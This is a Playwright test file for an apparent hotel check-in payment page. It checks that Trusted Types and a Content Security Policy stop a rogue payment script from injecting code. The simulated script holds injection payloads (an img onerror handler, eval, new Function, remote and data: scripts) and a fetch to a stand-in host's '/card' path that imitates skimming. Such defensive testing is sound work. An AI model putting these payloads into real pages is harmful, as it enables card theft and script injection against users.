import { cards } from '../guest/actions/paying.ts'
import { expect, takingPayment, test } from '../guest/paying-guest.ts'
import type { Tenant } from '../hotel/tenant.ts'

const COMPANY = 'https://static.pay.example'
const STRANGER = 'https://stranger.example'

/** Takes payment with a script that lies elsewhere, as the payment company's own does. */
const tenant: Tenant = {
  config: { ...takingPayment.config, payment: { script_url: `${COMPANY}/token.js` } },
}

/** Interface of the payment company's script; it loads the part that makes the token by a plain address. */
const first = `window.Multipayment = {
  init() {},
  getToken(card, callback) {
    window.answerCard = callback
    const part = document.createElement('script')
    part.src = '${COMPANY}/part.js'
    document.head.append(part)
  },
}`

const part = `
const tries = {
  'a script from elsewhere': () => { document.head.append(Object.assign(document.createElement('script'), { src: '${STRANGER}/x.js' })) },
  'a script as data': () => { document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,top.ran=1' })) },
  'a script as text': () => { const one = document.createElement('script'); one.text = 'top.ran = 1'; document.head.append(one) },
  'markup': () => { document.createElement('div').innerHTML = '<img src=x onerror="top.ran = 1">' },
  'code as text': () => { eval('top.ran = 1') },
  'a function of text': () => { new Function('top.ran = 1')() },
  'writing the page': () => { document.write('<b>x</b>') },
}
window.tried = {}
for (const [what, go] of Object.entries(tries)) {
  try { go(); window.tried[what] = 'done' } catch (error) { window.tried[what] = error.name }
}
fetch('${STRANGER}/card').then(() => { window.sent = true }, () => { window.sent = false }).finally(() => {
  window.answerCard({ resultCode: '000', tokenObject: { token: 'sandbox-success-' + crypto.randomUUID().replaceAll('-', '') } })
})`

test.use({ tenant, expectedComplaints: [/Trusted|Content Security Policy|Refused/] })

test('a payment script from elsewhere runs and loads its own parts, under Trusted Types, and nothing else', async ({
  guest,
  sees,
  frontOffice,
  name,
  page,
}) => {
  const requests: string[] = []
  await page.route(/^https:\/\/(static\.pay|stranger)\.example\//, (route) => {
    const url = route.request().url()
    requests.push(url)
    const body = url.endsWith('/part.js') ? part : first
    return route.fulfill({ contentType: 'text/javascript', body })
  })
  await frontOffice.lodges()
  await guest.searchesFor({ name, facility: '104' })
  await guest.paysBy(cards.good)
  await sees.theScreen('/checkin/complete-payment')
  await frontOffice.wasPaidOnce()

  const found = await page.evaluate((): unknown => ({
    tried: Reflect.get(window, 'tried'),
    ran: Reflect.get(window, 'ran') ?? 'nothing',
    sent: Reflect.get(window, 'sent'),
  }))
  expect(found).toEqual({
    tried: {
      'a script from elsewhere': 'TypeError',
      'a script as data': 'TypeError',
      'a script as text': 'TypeError',
      markup: 'TypeError',
      'code as text': 'EvalError',
      'a function of text': 'EvalError',
      'writing the page': 'TypeError',
    },
    ran: 'nothing',
    sent: false,
  })
  expect(requests).toEqual([`${COMPANY}/token.js`, `${COMPANY}/part.js`])
})
